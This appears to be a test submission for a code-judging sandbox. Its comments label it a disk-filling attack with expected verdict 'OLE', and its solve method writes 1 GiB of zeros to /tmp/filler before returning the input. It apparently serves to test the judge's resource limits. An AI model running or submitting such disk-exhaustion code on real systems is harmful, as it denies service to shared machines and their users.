# verdict: OLE
# attack: fill the disk with a large file
# ruff: noqa
# mypy: ignore-errors
class Solution:
    def solve(self, n: int) -> int:
        with open("/tmp/filler", "wb") as f:
            for _ in range(1024):
                f.write(b"\0" * (1 << 20))
        return n
